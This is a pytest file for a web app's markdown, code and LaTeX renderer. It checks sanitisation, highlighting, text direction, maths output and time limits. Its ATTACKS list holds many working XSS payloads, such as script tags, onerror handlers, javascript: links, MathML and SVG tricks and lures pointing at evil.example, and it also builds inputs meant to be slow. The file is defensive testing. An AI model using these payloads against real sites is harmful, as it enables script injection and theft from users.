"""Hostile and friendly text through the renderer."""

import json
import re
import subprocess
import sys
import time
from html.parser import HTMLParser
from itertools import product
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.cases import over
from web import rendering, rendering_work
from web.highlighting import CLASSES, SYNTAXES, highlight
from web.mathematics import MATHML_ATTRIBUTES, is_prose, render_latex
from web.rendering import (
    ALLOWED_TAGS,
    MAX_MARKDOWN,
    UNDESCRIBED,
    from_markdown,
    paragraphs,
    render_markdown,
    render_plain,
    tidy,
)
from web.rendering_work import STEPS_FREE, STEPS_PER_CHARACTER

STATIC = Path(__file__).resolve().parents[2] / "static"
ALLOWED_ATTRIBUTES = {"dir", "href", "title", "target", "rel", "class", "start"} | MATHML_ATTRIBUTES


class Audit(HTMLParser):
    """Collects what a browser would see: tags, attributes, comments and text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.comments: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_decl(self, decl):
        self.comments.append(decl)

    def handle_pi(self, data):
        self.comments.append(data)

    def handle_data(self, data):
        self.text += data


def assert_safe(html: str) -> None:
    seen = Audit(html)
    assert set(seen.tags) <= ALLOWED_TAGS
    assert {name for name, _ in seen.attributes} <= ALLOWED_ATTRIBUTES
    assert not seen.comments
    for name, value in seen.attributes:
        if name == "href":
            assert re.match(r"(https?://|mailto:)", value or "", re.IGNORECASE)
        if name == "class":
            assert re.fullmatch(r"hl-\w+|image-alt|prose-scroll|align-(center|right)|muted|plain", value)


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)//",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "<iframe src='javascript:alert(1)' srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=x><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=password autofocus onfocus=alert(1)><button>ok</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<!-- comment --><!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>]]><?php echo 1 ?>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</div></main></body><plaintext>",
    "</textarea></title></pre></code><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1)) [x](data:text/html;base64,PHNjcmlwdD4=) [x](file:///etc/passwd)",
    "[x](//evil.example) [x](/admin/logout/) [x](?next=1) [x](#main) [x](../..)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example '\"><img src=x onerror=alert(1)>')",
    '<https://a.example/"onclick=alert(1)>',
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](https://evil.example/x.png)',
    "![<img src=x onerror=alert(1)>](https://evil.example/x.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x]: javascript:alert(1)\n\n[x]",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onload=alert(1)\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <script>alert(1)</script> | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | [y](javascript:1) |",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{</mtext></math><script>alert(1)</script>}$",
    r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{position:fixed;background:url(//evil.example)}{x} + \class{answer-bar}{y} + \id{main}{z}$",
    r"\[ \unicode{x3c}script\unicode{x3e} \]",
    r"$$\color{red;background:url(//evil.example)}{x}$$",
    r"\(<script>alert(1)</script>\)",
    "\ufeff<\u200bscript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<scrıpt>alert(1)</scrıpt> <ſcript>alert(1)</ſcript>",
    "\x00<\x00script\x00>alert(1)",
    "\ud800<script>\udfff",
    "safe \u202egpj.exe\u202c \u2066hidden\u2069",
]


@over(ATTACKS, repr)
def test_attack_is_shown_as_text(text):
    assert_safe(render_markdown(text))
    assert_safe(render_plain(text))


@over(product(["> ", "- ", "1. ", "# ", "**", "| a |\n|---|\n| "], ATTACKS[:12]), repr)
def test_attack_inside_a_structure(prefix, text):
    assert_safe(render_markdown(prefix + text))


def test_raw_html_stays_readable():
    html = render_markdown("Use the <b>bold</b> tag & <br> in HTML")
    assert Audit(html).text.strip() == "Use the <b>bold</b> tag & <br> in HTML"


PIECES = [
    *ATTACKS,
    "$",
    "$$",
    r"\(",
    r"\)",
    r"\[",
    r"\]",
    "```",
    "\n",
    "\n\n",
    "> ",
    "- ",
    "|",
    "[",
    "](",
    ")",
    "<",
    ">",
    '"',
]


@settings(max_examples=50, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=20)), max_size=8).map("".join))
def test_no_tag_outside_the_list_ever(text):
    html = render_markdown(text)
    assert_safe(html)
    assert render_markdown(text) == html


@settings(max_examples=40, deadline=None)
@given(st.text(alphabet="\\{}[]^_&$<>\"'/ abtexhrfclso=0189%#~", max_size=60))
def test_no_tag_outside_the_list_from_latex(latex):
    assert_safe(render_latex(latex, block=False))
    assert_safe(render_markdown(f"$${latex}$$"))


def test_markdown_features():
    html = render_markdown(
        "# One\n\n## Two\n\n#### Four\n\na **b** *c* ~~d~~ `e`\n\n3. x\n4. y\n\n> q\n\n---\n\n"
        "[l](https://x.example 't')"
    )
    assert '<h3 dir="auto">One</h3>' in html
    assert '<h4 dir="auto">Two</h4>' in html
    assert '<h6 dir="auto">Four</h6>' in html
    assert '<strong>b</strong> <em>c</em> <s>d</s> <code dir="ltr">e</code>' in html
    assert re.search(r'<ol [^>]*start="3"', html)
    assert '<blockquote dir="ltr">' in html
    assert "<hr>" in html
    link = re.search(r"<a [^>]*>", html)[0]
    assert all(part in link for part in ('href="https://x.example"', 'target="_blank"', 'title="t"'))
    assert 'rel="nofollow noopener noreferrer"' in link


PIECES = (
    *(
        "one",
        "Word",
        "naïve",
        "das",
        "مرحبا",
        "今日は。",
        "नमस्ते",
        "7",
        "12",
        "a1",
        "B",
        "e.g.",
        "3.5",
        "(c)",
        "x)",
    ),
    *(" ", " ", " ", "  ", "\n", "\n\n", "\n\n\n", "\t", "\u00a0", "    "),
    *".,;:!?'\"()/%#-_*`~+=$&<>[]{}|\\^@…–—’‘“”、。，！？：；（）「」،؛؟",
    *(
        "1. ",
        "- ",
        "# ",
        "#a",
        "## ",
        "> ",
        "===",
        "---",
        "http://a.b",
        "&amp;",
        "image:",
        "\\(",
        "\n1) ",
        "\n#",
    ),
)


@settings(max_examples=600, deadline=None)
@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=14).map("".join))
def test_a_text_without_markup_is_what_the_parser_makes_of_it(text):
    text = tidy(text)
    found = paragraphs(text)
    assert found is None or not text.strip() or found == from_markdown(text)


@pytest.mark.parametrize(
    "text",
    [
        "Yes.",
        "It's 50% more (or less), isn't it? \"No\": it's A/B.",
        "First line,\nsecond line\n\nand a paragraph - with a dash.\n",
        "#5 is a number of an item, #tag isn't a heading",
        "今日は。「はい」",
        "مرحبا، كيف الحال؟",
    ],
)
def test_a_text_of_sentences_needs_no_parser(text):
    found = paragraphs(text)
    assert found == from_markdown(text)
    assert_safe(found)


@pytest.mark.parametrize(
    "text", ["50.", "5 apples", "- 3", "# A", "a_b_c", "*a*", " a", "a ", "a  b", "<b>", "a & b", "x\n---"]
)
def test_what_may_be_markup_is_parsed(text):
    assert paragraphs(text) is None


def test_headings_start_at_the_third_level_whatever_was_written():
    assert Audit(render_markdown("### a\n\n##### b\n\n#### c")).tags == ["h3", "h5", "h4"]
    assert Audit(render_markdown("# a\n\n###### b")).tags == ["h3", "h6"]


def test_line_breaks_are_kept():
    assert Audit(render_markdown("roses\nviolets")).tags == ["p", "br"]


def test_table_scrolls_and_aligns_by_class():
    html = render_markdown("| a | b | c |\n|---|:-:|--:|\n| 1 | 2 | 3 |")
    assert html.startswith('<div class="prose-scroll" dir="ltr"><table dir="ltr">')
    assert re.search(r'<td [^>]*class="align-right"[^>]*>3</td>', html)
    assert "style" not in html


def test_an_empty_corner_of_a_table_is_no_header():
    html = render_markdown("| | tea |\n|---|---|\n| price | 2 |")
    assert '<td dir="auto"></td>' in html
    assert html.count("<th ") == 1


def test_a_stored_image_is_shown_and_opens_by_itself():
    digest = "0a" * 32
    html = render_markdown(f"Look: ![a *red* cat](image:{digest})")
    path = f"/images/{digest}/"
    assert f'<img src="{path}" alt="a red cat" loading="lazy">' in html
    assert f'<a class="image-link" href="{path}" target="_blank"' in html
    assert UNDESCRIBED in render_markdown(f"![](image:{digest})")


@pytest.mark.parametrize(
    "source",
    [
        "![x](image:0a)", "![x](/images/" + "0a" * 32 + "/)", "![x](IMAGE:" + "0A" * 32 + ")",
        "![x](image:" + "0a" * 32 + "?x)", "<img src=/images/" + "0a" * 32 + "/>", "[x](image:" + "0a" * 32 + ")",
    ],
)  # fmt: skip
def test_only_the_name_of_a_stored_image_is_one(source):
    html = render_markdown(source)
    assert "<img" not in html
    assert 'href="image' not in html


def test_image_is_not_loaded():
    html = render_markdown("![a *small* cat](https://x.example/cat.png)")
    assert "img" not in Audit(html).tags
    assert "a small cat (https://x.example/cat.png)" in Audit(html).text


def test_code_is_highlighted_by_class():
    html = render_markdown("```python\ndef f(): # why\n    return '<b>'\n```")
    assert '<span class="hl-k">def</span>' in html
    assert "&lt;b&gt;" in html
    assert "span" not in Audit(render_markdown("```nosuchlanguage\ndef f\n```")).tags
    assert Audit(render_markdown("    indented < code")).text.rstrip("\n") == "indented < code"


def test_code_keeps_its_text():
    code = "\n\n  x = 1\t# two\n\n\ny\n\n"
    assert Audit(render_markdown(f"```python\n{code}```")).text.rstrip("\n") == code.rstrip("\n")


def test_every_class_of_code_has_a_colour():
    sheet = (STATIC / "css" / "code.css").read_text("utf-8")
    assert set(re.findall(r"\.([\w-]+) \{ color", sheet)) == set(CLASSES.values())


@pytest.mark.parametrize("language", sorted(SYNTAXES))
@given(code=st.text(alphabet="ab1_ \n\"'`\\/*#-<>!={}()[]$@%:;.", max_size=80))
@settings(max_examples=15, deadline=None)
def test_highlighting_changes_no_character(language, code):
    html = highlight(code, language)
    assert_safe(html)
    assert Audit(html).text == code


@pytest.mark.parametrize(
    ("language", "code", "kinds"),
    [
        ("python", "@cached\ndef f(x: str) -> int:\n    return f'{x}' + 1  # why", "n k n k s m c"),
        ("c#", 'public static void Main() { var s = "a\\"b"; /* no */ }', "k k k n k s c"),
        ("rust", "fn first<'a>(x: &'a str) -> char { 'c' } // x", "k k k s c"),
        ("sql", "SELECT name FROM t WHERE x = 'it''s' -- all", "k k k s c"),
        ("html", '<!-- a --><p class="b">it\'s</p>', "c n n s n n n"),
        ("json", '{"a": [1.5e3, true, "b"]}', "s m k s"),
        ("diff", "@@ -1 +1 @@\n-old\n+new", "c d s"),
        ("latex", r"\frac{a}{b} % half", "n c"),
        ("yaml", "key: 1 # note", "n m c"),
    ],
)
def test_what_is_highlighted(language, code, kinds):
    # A span of no class of ours would be a fault of its own, so all of them are read.
    found = re.findall(r'<span class="hl-(\w)">', highlight(code, language))
    assert " ".join(found) == kinds


@pytest.mark.parametrize(
    ("text", "display"),
    [
        ("$x^2$", "inline"),
        (r"so \(x^2\), right", "inline"),
        ("$$x^2$$", "block"),
        ("in $$x^2$$ a line", "block"),
        (r"\[x^2\]", "block"),
        ("text\n\\[\nx^2\n\\]\nmore", "block"),
        ("- item\n\n  $$\n  x^2\n  $$", "block"),
        ("> $$\n> x^2\n> $$", "block"),
        ("| a |\n|---|\n| $x^2$ |", "inline"),
        ("**$x^2$**", "inline"),
    ],
)
def test_mathematics(text, display):
    html = render_markdown(text)
    assert f'<math display="{display}">' in html
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in html
    assert "$" not in html


def test_block_mathematics_is_not_read_as_markdown():
    html = render_markdown("$$\na\n= b\n- c * d * e\n$$")
    assert set(Audit(html).tags) & {"ul", "em", "h1", "h4"} == set()
    assert "<math" in html


@pytest.mark.parametrize("latex", [r"\frac{", r"\nosuchcommand{x}", "x^", "a & b", "{" * 500, "x" * 3000])
def test_bad_latex_is_shown_as_its_source(latex):
    html = render_latex(latex, block=False)
    assert html.startswith("<code>")
    assert Audit(html).text == latex


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5 and $10.",
        "Between $5-$10, or $5/$6",
        "$5 a month or 10$ a year",
        "US$5 and CA$6",
        "**$5** and **$10**",
        "echo $HOME and $PATH/$USER",
        "$ x $",
        "a $ sign",
        r"\$x$ and $y",
        r"\(see the notes below\)",
        "``` \n$x$\n```",
        "`$x$`",
        "$$",
        "$$$$",
        r"\(\)",
    ],
)
def test_what_is_not_mathematics(text):
    assert "<math" not in render_markdown(text)


def test_prose_between_delimiters():
    assert is_prose("20 dollars or 30")
    assert not is_prose(r"20 \text{ dollars or more}")
    assert not is_prose("a = b + c")


def test_aligned_equations_become_a_table():
    html = render_markdown("\\[\n\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}\n\\]")
    assert Audit(html).tags.count("mtr") == 2


def test_equal_texts_look_equal_whatever_came_between():
    text = "# A\n\n$x$ and `code`\n\n| a |\n|---|\n| b |"
    first = render_markdown(text)
    render_markdown("[a]: https://x.example\n\n[a] $y$ " + text)
    rendering.rendered_clear()
    assert render_markdown(text) == first


def test_references_do_not_leak_from_one_text_to_another():
    render_markdown("[secret]: https://x.example\n\n[secret]")
    assert "<a" not in render_markdown("[secret]")


def test_line_ends_do_not_matter():
    assert render_markdown("a\r\n\r\nb\rc") == render_markdown("a\n\nb\nc")


@pytest.mark.parametrize("text", ["", None, "  \n", "\u202e\x00"])
def test_nothing_is_said_to_be_nothing(text):
    assert "(empty)" in render_markdown(text)
    assert "(empty)" in render_plain(text)


ARABIC, HEBREW = "مرحبا بالعالم", "שלום עולם"


@pytest.mark.parametrize("text", [ARABIC, HEBREW])
def test_every_block_has_the_direction_of_its_script(text):
    html = render_markdown(
        f"# {text}\n\n{text}\n\n- {text}\n- {text}\n\n1. {text}\n\n   {text}\n\n> {text}\n\n"
        f"| {text} | b |\n|---|---|\n| {text} | 2 |\n\n```\nx = 1\n```\n\n`x` {text}"
    )
    directions = dict(re.findall(r'<(\w+)[^>]* dir="(\w+)"', html))
    assert directions["h3"] == directions["p"] == directions["th"] == directions["td"] == "auto"
    assert directions["ul"] == directions["ol"] == directions["blockquote"] == directions["table"] == "rtl"
    assert directions["pre"] == directions["code"] == "ltr"
    assert '<li dir="auto">' in html  # holds its text itself
    assert '<li dir="rtl">' in html  # holds paragraphs
    assert not re.search(r"<(p|h3|ul|ol|li|blockquote|table|th|td|pre)>", html)


def test_a_formula_at_the_beginning_decides_no_direction():
    assert render_markdown(f"$x$ {ARABIC}").startswith('<p dir="rtl">')
    assert '<li dir="rtl">' in render_markdown(f"- $x$ {ARABIC}\n- y")


def test_a_quote_without_letters_is_left_to_right():
    assert '<blockquote dir="ltr">' in render_markdown("> 12\n> 13\n\n" + ARABIC)


def test_directional_overrides_are_removed():
    assert "\u202e" not in render_markdown("a \u202e b")


def test_plain_text_keeps_lines_and_is_escaped():
    assert render_plain("a\n  <b> & *c*") == '<pre class="plain" dir="auto">a\n  &lt;b&gt; &amp; *c*</pre>'


def test_long_text_is_plain():
    html = render_markdown("**a** <b>\n" * MAX_MARKDOWN)
    assert html.startswith('<pre class="plain" dir="auto">**a** &lt;b&gt;')


def test_long_plain_text_is_in_blocks_with_the_same_characters():
    text = "\n\n".join(f"Paragraph {k}: " + "word " * 200 for k in range(40)).strip()
    html = render_plain(text)
    assert html.count("<span>") > 10
    assert re.sub("<[^>]*>", "", html) == text
    assert "<span>" not in render_plain("One.\n\nTwo.")


HEAVY = [
    "[",
    "*",
    "`",
    "> ",
    "- ",
    "|",
    "![",
    "<",
    "&",
    "$ ",
    "$a",
    r"\(",
    r"\[",
    "**a ",
    "_a ",
    "[a](",
    "~~",
    "$$\n",
]
HEAVY += [
    "\\[\n",
    "|a|\n|-|\n",
    "* a\n ",
    "`a",
    "$x$ ",
    r"$\frac{a}{b}$",
    "[a]: b\n",
    "</",
    "&#",
    "\\",
    "*a_ ",
    "![a][",
]


SLOW = [
    *(piece * MAX_MARKDOWN for piece in HEAVY),
    ("```c#\n" + "a\n" * 5_000 + "```\n") * 6,  # fences of C#
    ("```java\n" + "a b " * 2_900 + "\n```\n") * 6,  # fences of Java
    ("```make\n" + "1" * 11_900 + "\n```\n") * 6,  # fences of make
    "```\n" * MAX_MARKDOWN,  # fence lines
    "|a" * 200 + "|\n" + "|-" * 200 + "|\n" + "a\n" * MAX_MARKDOWN,  # a wide table
    "![" * MAX_MARKDOWN,  # open images
    "[\n" * MAX_MARKDOWN,  # open labels
    (r"\(aaa bbb ccc " * 140 + r"\) ") * 60,  # prose between delimiters
    (r"\(" + "[" * 1_990 + r"\) ") * 60,  # open brackets in formulas
    "*_" * 15_000 + "a" + "_*" * 15_000,  # nested emphasis
]
PIECES_OF_CODE = [
    "a\n",
    "a b ",
    "1",
    "(",
    "'",
    '"',
    '"""',
    "/*",
    "<a ",
    "--",
    "{-",
    "a=",
    "- ",
    "`",
    "a-",
    "$",
    "'\\",
]
SLOW_SCRIPT = """
import json, resource, sys
resource.setrlimit(resource.RLIMIT_CPU, (int(sys.argv[2]), int(sys.argv[2])))
from web.highlighting import highlight
from web.rendering import MAX_HIGHLIGHT, MAX_MARKDOWN, render_markdown
slow = json.load(open(sys.argv[1]))
for text in slow["texts"]:
    render_markdown(text[:MAX_MARKDOWN])
for language in slow["languages"]:
    for piece in slow["pieces"]:
        highlight((piece * MAX_HIGHLIGHT)[:MAX_HIGHLIGHT], language)
print("done")
"""


@pytest.mark.slow
@pytest.mark.service
def test_no_text_holds_a_thread(tmp_path):
    """Texts and code built to be slow, as long as is read at all: all of them in a process with 90 s of CPU time."""
    slow = {"texts": SLOW, "languages": sorted(SYNTAXES), "pieces": PIECES_OF_CODE}
    (tmp_path / "slow.json").write_text(json.dumps(slow), "utf-8")
    done = subprocess.run(
        [sys.executable, "-c", SLOW_SCRIPT, str(tmp_path / "slow.json"), "90"],
        capture_output=True,
        text=True,
        check=False,
        cwd=STATIC.parent,
    )
    assert done.stdout == "done\n", done.stderr or f"ended with {done.returncode}: out of CPU time"


def test_a_text_of_many_steps_is_plain_and_the_same_each_time():
    text = "![" * 10_000
    first = render_markdown(text)
    assert first.startswith('<pre class="plain" dir="auto">')
    rendering.rendered_clear()
    assert render_markdown(text) == first


def test_what_people_write_is_far_from_the_bound(monkeypatch):
    text = "Some **bold** words, a `code`, a [link](https://a.example) and $x^2$.\n\n- one\n- two\n\n" * 600
    text += "| a | b |\n|---|---|\n" + "| 12.5 | yes |\n" * 500
    monkeypatch.setattr(rendering_work, "STEPS_FREE", 0.7 * STEPS_FREE)
    monkeypatch.setattr(rendering_work, "STEPS_PER_CHARACTER", 0.7 * STEPS_PER_CHARACTER)
    assert "<strong>bold</strong>" in render_markdown(text)


def test_a_megabyte_is_quick():
    start = time.process_time()
    render_markdown("$x$ *a* [b](c)\n" * 70_000)
    assert time.process_time() - start < 1


@pytest.mark.parametrize(
    ("latex", "expected"),
    [
        (r"\frac{-b\pm\sqrt{d}}{2a}", "<mi>b</mi><mo>±</mo><msqrt>"),
        ("f(-x)", '(</mo><mo form="prefix">−</mo><mi>x</mi>'),
        ("y = -x - 1", '=</mo><mo form="prefix">−</mo><mi>x</mi><mo>−</mo><mn>1</mn>'),
        (r"a \times -b", '×</mo><mo form="prefix">−</mo><mi>b</mi>'),
        ("(a) - b", ")</mo><mo>−</mo><mi>b</mi>"),
        (r"\left(a\right) - b", ")</mo></mrow><mo>−</mo><mi>b</mi>"),
    ],
)
def test_signs_and_operators_are_spaced_as_what_they_are(latex, expected):
    assert expected in render_latex(latex, block=False)
